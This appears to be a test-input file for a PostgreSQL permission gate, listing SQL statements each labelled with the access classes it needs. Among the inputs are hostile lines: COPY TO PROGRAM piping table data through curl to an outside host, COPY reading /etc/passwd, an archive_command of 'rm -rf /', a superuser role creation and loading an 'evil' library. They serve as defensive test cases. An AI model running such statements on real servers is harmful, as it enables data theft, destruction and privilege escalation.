-- read: the plain case
SELECT * FROM orders WHERE id = 7

-- read: no table at all
SELECT 1

-- read: VALUES alone is a query
VALUES (1, 'a'), (2, 'b')

-- read: TABLE is a query
TABLE orders

-- read: a comment is not a statement
SELECT /* DELETE FROM orders; */ 1 -- DROP TABLE orders

-- read: a string is not a statement
SELECT 'DROP TABLE orders; DELETE FROM orders'

-- read: a dollar-quoted string is not a statement
SELECT $x$ ; DELETE FROM orders; $x$

-- read: keywords as quoted names
SELECT "delete" FROM "update" AS "insert"

-- read+write: data-modifying WITH under a SELECT
WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone

-- read+write: data-modifying WITH that nobody reads still runs
WITH gone AS (UPDATE orders SET note = '' RETURNING 1) SELECT 1

-- read+write: without RETURNING the outer query still reads
WITH gone AS (INSERT INTO audit VALUES (1)) SELECT 1

-- read+write: two levels down
WITH a AS (WITH b AS (DELETE FROM orders RETURNING id) SELECT id FROM b) SELECT * FROM a

-- read+write: data-modifying WITH on an INSERT
WITH moved AS (DELETE FROM orders RETURNING *) INSERT INTO archive SELECT * FROM moved

-- read+write: MERGE inside WITH
WITH m AS (MERGE INTO stock s USING news n ON s.id = n.id WHEN MATCHED THEN DELETE RETURNING s.id) SELECT * FROM m

-- read+write: in the parentheses of a UNION
(SELECT 1) UNION ALL (WITH x AS (DELETE FROM t RETURNING 1) SELECT * FROM x)

-- read+ddl: SELECT INTO makes a table
SELECT * INTO copy_of_orders FROM orders

-- read+temp: SELECT INTO TEMP makes a temporary one
SELECT * INTO TEMP copy_of_orders FROM orders

-- read+temp: the schema makes it temporary
SELECT * INTO pg_temp.copy_of_orders FROM orders

-- read+ddl: SELECT INTO in the first part of a UNION
SELECT id INTO n FROM orders UNION SELECT id FROM archive

-- read+write: row locks
SELECT * FROM orders FOR UPDATE

-- read+write: weaker row locks are locks
SELECT * FROM orders FOR KEY SHARE SKIP LOCKED

-- read+write: row locks in a subquery
SELECT * FROM (SELECT id FROM orders FOR SHARE) AS held

-- read+write: row locks in a WITH query
WITH held AS (SELECT id FROM orders FOR NO KEY UPDATE) SELECT 1

-- write: the whole row is in the text
INSERT INTO orders VALUES (1, 'a', now())

-- write: defaults only
INSERT INTO orders DEFAULT VALUES

-- read+write: reads another table
INSERT INTO orders SELECT * FROM archive

-- read+write: reads through a subquery in VALUES
INSERT INTO orders VALUES ((SELECT max(secret) FROM vault))

-- read+write: RETURNING reads
INSERT INTO orders VALUES (1) RETURNING *

-- write: ON CONFLICT
INSERT INTO orders VALUES (1) ON CONFLICT (id) DO UPDATE SET n = excluded.n WHERE orders.n < 3

-- read+write: ON CONFLICT with a subquery
INSERT INTO orders VALUES (1) ON CONFLICT (id) DO UPDATE SET n = (SELECT n FROM vault)

-- write: UPDATE
UPDATE orders SET status = 'paid' WHERE id = 7

-- read+write: UPDATE from another table
UPDATE orders SET price = n.price FROM news n WHERE n.id = orders.id

-- read+write: UPDATE with a subquery among the values
UPDATE orders SET (a, b) = (SELECT a, b FROM vault) WHERE id = 1

-- write: where a cursor stands
UPDATE orders SET status = 'paid' WHERE CURRENT OF c

-- write: DELETE without WHERE
DELETE FROM orders

-- read+write: DELETE USING
DELETE FROM orders USING archive WHERE orders.id = archive.id

-- read+write: MERGE from a table
MERGE INTO stock s USING news n ON s.id = n.id WHEN MATCHED THEN UPDATE SET n = n.n WHEN NOT MATCHED THEN INSERT VALUES (n.id, n.n)

-- write+ddl: TRUNCATE
TRUNCATE orders, archive RESTART IDENTITY CASCADE

-- unknown: code in another language
DO $$ BEGIN DELETE FROM orders; END $$

-- unknown: a procedure is code behind a name
CALL close_month()

-- unknown: a procedure given a harmless function
CALL close_month(now())

-- read: EXPLAIN does not run
EXPLAIN DELETE FROM orders

-- read+write: EXPLAIN ANALYZE runs
EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1

-- read+write: the same in brackets, any case
explain (COSTS off, aNaLyZe) delete from orders

-- read+write: said twice, PostgreSQL takes the last
EXPLAIN (ANALYZE false, ANALYZE true) DELETE FROM orders

-- read: ANALYZE said no
EXPLAIN (ANALYZE off) DELETE FROM orders

-- read+ddl: EXPLAIN ANALYZE of CREATE TABLE AS makes the table
EXPLAIN ANALYZE CREATE TABLE n AS SELECT * FROM orders

-- read: EXPLAIN of CREATE TABLE AS does not
EXPLAIN CREATE TABLE n AS SELECT * FROM orders

-- read+unknown: planning may run functions
EXPLAIN SELECT * FROM orders WHERE id = my_constant()

-- connect+read: EXPLAIN EXECUTE: the gate adds what the name means
EXPLAIN ANALYZE EXECUTE p(1)

-- connect+write: PREPARE needs what is inside
PREPARE p AS DELETE FROM orders WHERE id = $1

-- connect+read: PREPARE of a query
PREPARE p (int) AS SELECT * FROM orders WHERE id = $1

-- connect: EXECUTE: the gate adds what the name means
EXECUTE p(7)

-- connect+write: its arguments are evaluated now
EXECUTE p(nextval('s'))

-- connect+read: its arguments may read
EXECUTE p((SELECT 1))

-- connect+ddl+unknown: CREATE TABLE AS EXECUTE runs a statement behind a name
CREATE TABLE n AS EXECUTE p

-- connect: forget a name
DEALLOCATE PREPARE p

-- connect: forget all names
DEALLOCATE ALL

-- connect+read: a cursor needs what its query needs
DECLARE c CURSOR WITH HOLD FOR SELECT * FROM orders

-- connect+read+write: a cursor that locks
DECLARE c CURSOR FOR SELECT * FROM orders FOR UPDATE

-- connect: the gate adds what the cursor's query needs
FETCH ALL FROM c

-- connect: moving is fetching
MOVE FORWARD 10 IN c

-- connect: closing
CLOSE ALL

-- read: COPY out
COPY orders TO STDOUT

-- read: COPY a query out
COPY (SELECT * FROM orders) TO STDOUT WITH (FORMAT csv)

-- read+write: COPY a query that deletes
COPY (DELETE FROM orders RETURNING *) TO STDOUT

-- write: COPY in
COPY orders FROM STDIN

-- write: COPY in with a condition
COPY orders (id) FROM STDIN WHERE id > 3

-- read+admin: COPY to a file of the server
COPY orders TO '/tmp/orders'

-- write+admin: COPY from a file of the server
COPY orders FROM '/etc/passwd'

-- read+admin: COPY to a program
COPY orders TO PROGRAM 'curl -T - example.org'

-- write+admin: COPY from a program
COPY orders FROM PROGRAM 'id'

-- write+admin: the file name in an escape string
COPY orders FROM E'/etc/p\x61sswd'

-- connect: transactions
BEGIN

-- connect: transactions, the other word
START TRANSACTION ISOLATION LEVEL SERIALIZABLE READ ONLY DEFERRABLE

-- connect+write: READ WRITE overrides a read-only default
BEGIN READ WRITE

-- connect+write: the last of two contradicting modes counts in PostgreSQL
BEGIN READ ONLY, READ WRITE

-- connect: END is COMMIT
END AND CHAIN

-- connect: ABORT is ROLLBACK
ABORT

-- connect: savepoints
SAVEPOINT a

-- connect: back to a savepoint
ROLLBACK TO SAVEPOINT a

-- connect: give up a savepoint
RELEASE a

-- unknown: a prepared transaction outlives the session
PREPARE TRANSACTION 'x'

-- unknown: commits what another session did
COMMIT PREPARED 'x'

-- unknown: undoes what another session did
ROLLBACK PREPARED 'x'

-- read: LISTEN hears others
LISTEN orders_changed

-- connect: hears no more
UNLISTEN *

-- write: NOTIFY tells others
NOTIFY orders_changed, 'x'

-- read: the lock that every SELECT takes
LOCK TABLE orders IN ACCESS SHARE MODE

-- write: a lock that stops others
LOCK TABLE orders

-- ddl: tables
CREATE TABLE t (id int PRIMARY KEY, at timestamptz DEFAULT now(), n int CHECK (n > 0), o int REFERENCES orders)

-- ddl: LIKE
CREATE TABLE t (LIKE orders INCLUDING ALL)

-- ddl+unknown: a default that calls something unknown
CREATE TABLE t (id int DEFAULT my_id())

-- temp: temporary
CREATE TEMPORARY TABLE t (id int) ON COMMIT DROP

-- temp: temporary by schema
CREATE TABLE pg_temp.t (id int)

-- read+temp: temporary by query
CREATE TEMP TABLE t AS SELECT * FROM orders

-- read+temp: a temporary view
CREATE TEMP VIEW v AS SELECT * FROM orders

-- read+ddl: a view
CREATE OR REPLACE VIEW v AS SELECT * FROM orders WITH CHECK OPTION

-- read+ddl: a materialized view
CREATE MATERIALIZED VIEW v AS SELECT * FROM orders

-- write: runs the view's query
REFRESH MATERIALIZED VIEW CONCURRENTLY v

-- ddl: an index
CREATE UNIQUE INDEX CONCURRENTLY i ON orders (lower(note)) WHERE n > 3

-- ddl+unknown: an index whose expression calls something unknown
CREATE INDEX i ON orders (my_key(id))

-- ddl: columns
ALTER TABLE orders ADD COLUMN n int DEFAULT 3, DROP COLUMN m CASCADE

-- ddl+admin: owner
ALTER TABLE orders OWNER TO alice

-- ddl+admin: row security
ALTER TABLE orders DISABLE ROW LEVEL SECURITY

-- ddl+unknown: an existing table rewritten by an unknown function
ALTER TABLE orders ALTER COLUMN n TYPE text USING my_text(n)

-- ddl: names
ALTER TABLE orders RENAME TO orders_old

-- ddl: drop
DROP TABLE IF EXISTS orders, public.archive CASCADE

-- ddl+admin: what everybody's names mean
DROP EXTENSION pgcrypto

-- ddl: a function in SQL
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELETE FROM orders; SELECT 1'

-- ddl+admin: a function with its owner's rights
CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql SECURITY DEFINER AS 'begin end'

-- ddl+admin: a function in C
CREATE FUNCTION f() RETURNS int LANGUAGE c AS '/tmp/x.so', 'f'

-- ddl+admin: a function in a language that reaches the machine
CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'import os'

-- ddl: a function whose body is an expression
CREATE FUNCTION f(a int) RETURNS int LANGUAGE sql RETURN a + 1

-- ddl+temp: a function in the schema of temporary objects
CREATE FUNCTION pg_temp.f() RETURNS int LANGUAGE sql AS 'SELECT 1'

-- write+ddl: a function whose body is parsed now
CREATE PROCEDURE f() BEGIN ATOMIC DELETE FROM orders; END

-- ddl+admin: rights added later
ALTER FUNCTION f() SECURITY DEFINER

-- ddl: a trigger
CREATE TRIGGER t AFTER INSERT ON orders FOR EACH ROW EXECUTE FUNCTION f()

-- ddl+admin: an event trigger
CREATE EVENT TRIGGER t ON ddl_command_end EXECUTE FUNCTION f()

-- write+ddl: a rule
CREATE RULE r AS ON INSERT TO orders DO ALSO DELETE FROM archive

-- ddl+admin: an extension
CREATE EXTENSION IF NOT EXISTS dblink

-- ddl+admin: another database's tables
CREATE FOREIGN TABLE f (id int) SERVER s

-- ddl+admin: passwords for another database
CREATE USER MAPPING FOR alice SERVER s OPTIONS (user 'x', password 'y')

-- ddl+admin: who sees which rows
CREATE POLICY p ON orders USING (true)

-- ddl+admin: casts change what text means
CREATE CAST (text AS int) WITH FUNCTION f(text) AS IMPLICIT

-- ddl+admin: operators change what text means
CREATE OPERATOR public.= (LEFTARG = text, RIGHTARG = int, FUNCTION = f)

-- ddl: a schema with a table in it
CREATE SCHEMA s CREATE TABLE t (id int)

-- ddl+admin: a schema with a grant in it
CREATE SCHEMA s CREATE TABLE t (id int) GRANT SELECT ON t TO PUBLIC

-- ddl+admin: a schema for somebody else
CREATE SCHEMA AUTHORIZATION alice

-- admin: rights
GRANT SELECT ON orders TO PUBLIC

-- admin: rights taken
REVOKE ALL ON orders FROM alice

-- admin: membership
GRANT pg_read_all_data TO alice

-- admin: roles
CREATE ROLE mallory SUPERUSER LOGIN

-- admin: settings of a role
ALTER ROLE ALL SET search_path = evil

-- admin: settings of the server
ALTER SYSTEM SET archive_command = 'rm -rf /'

-- admin: code into the server
LOAD 'evil'

-- admin: maintenance
VACUUM (FULL) orders

-- admin: statistics
ANALYZE orders

-- admin: rewriting
CLUSTER orders USING i

-- admin: rebuilding
REINDEX TABLE CONCURRENTLY orders

-- admin: the server
CHECKPOINT

-- admin: databases
DROP DATABASE app WITH (FORCE)

-- admin: replication
CREATE PUBLICATION p FOR ALL TABLES

-- admin: replication from elsewhere
CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p

-- admin: labels
SECURITY LABEL ON TABLE orders IS 'x'

-- ddl: a comment in the catalogue
COMMENT ON TABLE orders IS 'x'

-- write: when constraints are checked
SET CONSTRAINTS ALL IMMEDIATE

-- read+ddl: two statements in one text
SELECT 1; DROP TABLE orders

-- connect+read+write: what a driver may send at once
BEGIN; SELECT * FROM orders; DELETE FROM orders; COMMIT

-- read: empty statements between
;; SELECT 1 ;;

-- connect: only a comment
/* nothing */ -- here

-- read: case and blanks do not matter
sElEcT/**/*/**/fRoM/**/orders

-- read+write: case and blanks do not matter here either
wItH/**/x/**/aS(dElEtE/**/fRoM/**/orders/**/rEtUrNiNg/**/*)sElEcT*FROM/**/x

-- read+write: the word hidden in nested comments is outside them
/* a /* b */ c */ DELETE FROM orders /* SELECT */ RETURNING 1

-- read: a UNION of everything, nested
SELECT 1 UNION (SELECT 2 INTERSECT (VALUES (3) EXCEPT TABLE orders)) ORDER BY 1 LIMIT 3

-- read: most expressions
SELECT CASE WHEN a IS NOT NULL THEN coalesce(b, 'x') ELSE nullif(c, '') END, (ARRAY[1, 2])[1], ROW(1, 2), a::numeric(10, 2), CAST(b AS date), greatest(1, 2), current_user, current_timestamp, EXISTS (SELECT 1), a = ANY (ARRAY[1]), x BETWEEN 1 AND 2, y LIKE 'a%' ESCAPE '!', z IS DISTINCT FROM 3, b COLLATE "C", (r).f, extract(year from d), d AT TIME ZONE 'UTC', substring(b FROM 2), GROUPING(a) FROM t GROUP BY ROLLUP (a)

-- read: window functions and more joins
SELECT rank() OVER (PARTITION BY a ORDER BY b), count(*) FILTER (WHERE c) OVER w, percentile_cont(0.5) WITHIN GROUP (ORDER BY d) FROM t LEFT JOIN LATERAL (SELECT 1) u ON true NATURAL JOIN v, generate_series(1, 10) g, ROWS FROM (unnest(ARRAY[1]), json_to_record('{}') AS (a int)) WITH ORDINALITY WINDOW w AS (ORDER BY e)

-- read: recursion
WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 9) SEARCH DEPTH FIRST BY n SET o CYCLE n SET c USING p SELECT * FROM t

-- read: XML
SELECT xmlelement(name a, xmlattributes(1 AS b)), xmlserialize(content x AS text), xmlparse(document '<a/>'), x IS DOCUMENT FROM XMLTABLE('/a' PASSING ('<a/>'::xml) COLUMNS b int PATH 'b' DEFAULT 1)

-- read+unknown: built in from 16 on; an older server would call a function of that name
SELECT json_array(1, 2)

-- read+unknown: built in from 17 on
SELECT * FROM JSON_TABLE('[]', '$[*]' COLUMNS (a int PATH '$'))

-- read: a sample
SELECT * FROM orders TABLESAMPLE bernoulli (1) REPEATABLE (2)

-- read+unknown: a sampling method that is not built in
SELECT * FROM orders TABLESAMPLE my_sample (1)
